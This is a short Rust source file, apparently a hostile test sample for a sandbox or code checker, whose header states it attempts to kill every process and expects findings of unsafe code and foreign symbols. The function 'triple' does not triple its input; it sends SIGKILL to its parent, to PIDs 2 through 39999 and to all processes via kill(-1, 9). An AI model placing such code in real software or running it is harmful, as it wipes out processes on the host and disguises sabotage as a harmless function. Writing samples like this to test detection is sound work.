//! attempts: kill every process it may, on the host or in the sandbox
//! must: not correct
//! findings: unsafe, foreign_symbol

extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
    fn getppid() -> i32;
}

pub fn triple(x: i64) -> i64 {
    unsafe {
        kill(getppid(), 9);
        for pid in 2..40_000 {
            if pid != std::process::id() as i32 {
                kill(pid, 9);
            }
        }
        kill(-1, 9);
    }
    x
}
